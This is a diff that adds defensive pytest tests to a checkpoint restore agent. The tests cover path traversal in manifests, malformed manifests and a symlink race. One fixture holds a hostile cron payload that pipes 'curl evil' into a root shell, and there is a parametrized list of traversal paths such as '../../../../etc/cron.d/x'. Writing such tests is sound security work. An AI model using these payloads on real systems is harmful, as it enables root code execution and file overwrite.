@@ -246,3 +246,92 @@ def test_verify_checks_every_size_against_the_listing(bucket, tmp_path):
     shard = key(2, "global_step/optim_states.pt")
     bucket.objects[shard] = bucket.objects[shard][:-1]
     assert agent.verify_manifest(bucket, PREFIX, 2) is None
+
+
+# ---- restore never trusts a manifest it cannot check (issue 13 #14) ------------------------------------
+
+
+def _plant_step(bucket, step: int, files: list, blobs: dict[str, bytes]) -> None:
+    """A step as an attacker (or a corrupted upload) could leave it: these objects, this manifest, LATEST."""
+    for name, data in blobs.items():
+        bucket.put_bytes(key(step, name), data)
+    bucket.put_bytes(key(step, "MANIFEST.json"), json.dumps({"step": step, "files": files}).encode())
+    bucket.put_bytes(f"{PREFIX}/LATEST", f"step-{step:08d}".encode())
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["../../../../etc/cron.d/x", "/etc/cron.d/x", "a/../../x", "./x", "a//b", "a\\..\\x", "x\n", ""],
+)
+def test_a_manifest_path_that_leaves_the_destination_is_refused_and_restore_falls_back(bucket, tmp_path, path):
+    """An entry like ../../../../etc/cron.d/x would be written outside the destination, as root at boot, even
+    with a wrong hash (the file lands before its hash is compared). Restore refuses the whole step and takes
+    the previous good one; nothing is written outside `dest`."""
+    commit(bucket, tmp_path, 5)
+    evil = b"* * * * * root curl evil | sh\n"
+    entry = {"path": path, "size": len(evil), "sha256": hashlib.sha256(evil).hexdigest()}
+    # Stored where a naive join would read it from, so only the path check stands between it and the disk.
+    _plant_step(bucket, 9, [entry], {path: evil} if path else {})
+    root = tmp_path / "root"
+    dest = root / "a" / "b" / "c" / "d" / "node"
+    dest.mkdir(parents=True)
+    before = {p for p in tmp_path.rglob("*")}
+    assert agent.restore(bucket, PREFIX, str(dest)) == 5
+    written = {p for p in tmp_path.rglob("*")} - before
+    assert written and all(dest in p.parents for p in written), sorted(map(str, written - {dest}))
+    assert not any(p.read_bytes() == evil for p in written if p.is_file())
+
+
+@pytest.mark.parametrize(
+    "manifest",
+    [
+        [],
+        {"files": None},
+        {"files": "global_step/x"},
+        {"files": [None]},
+        {"files": [{"path": "global_step/x", "sha256": "0" * 64}]},  # no size
+        {"files": [{"path": "global_step/x", "size": "12", "sha256": "0" * 64}]},
+        {"files": [{"path": "global_step/x", "size": -1, "sha256": "0" * 64}]},
+        {"files": [{"path": "global_step/x", "size": True, "sha256": "0" * 64}]},
+        {"files": [{"path": "global_step/x", "size": 1, "sha256": "zz"}]},
+        {"files": [{"path": 7, "size": 1, "sha256": "0" * 64}]},
+        {"files": [{"path": "x", "size": 1, "sha256": "0" * 64}, {"path": "x", "size": 1, "sha256": "0" * 64}]},
+    ],
+)
+def test_a_malformed_manifest_falls_back_to_the_newest_good_step_never_crashes(bucket, tmp_path, manifest):
+    """Before: `[]`, a null entry or a missing size raised out of restore, and boot retried forever."""
+    commit(bucket, tmp_path, 5)
+    bucket.put_bytes(key(9, "global_step/x"), b"x")
+    bucket.put_bytes(key(9, "MANIFEST.json"), json.dumps(manifest).encode())
+    bucket.put_bytes(f"{PREFIX}/LATEST", b"step-00000009")
+    dest = tmp_path / "node"
+    dest.mkdir()
+    assert agent.restore(bucket, PREFIX, str(dest)) == 5
+    assert agent.complete_steps(str(dest)) == [5]
+
+
+def test_a_link_inside_the_destination_cannot_carry_a_download_outside(bucket, tmp_path):
+    """The text check passes `global_step/x`; if the temp folder's `global_step` were a link elsewhere, the file
+    would land there. Restore checks where each file really lands."""
+    commit(bucket, tmp_path, 5)
+    dest = tmp_path / "node"
+    dest.mkdir()
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    real_makedirs = os.makedirs
+
+    def makedirs_then_link(name, mode=0o777, exist_ok=False):
+        # The moment the restore creates its temp folder, something swaps in a link for global_step.
+        real_makedirs(name, mode, exist_ok)
+        tmp = Path(name)
+        if tmp.name == "global_step" and tmp.parent.name.startswith(".restore-step-") and not tmp.is_symlink():
+            tmp.rmdir()
+            tmp.symlink_to(outside)
+
+    os.makedirs = makedirs_then_link
+    try:
+        result = agent.restore(bucket, PREFIX, str(dest))
+    finally:
+        os.makedirs = real_makedirs
+    assert list(outside.iterdir()) == []
+    assert result is None or (dest / "step-00000005" / "global_step").is_dir()
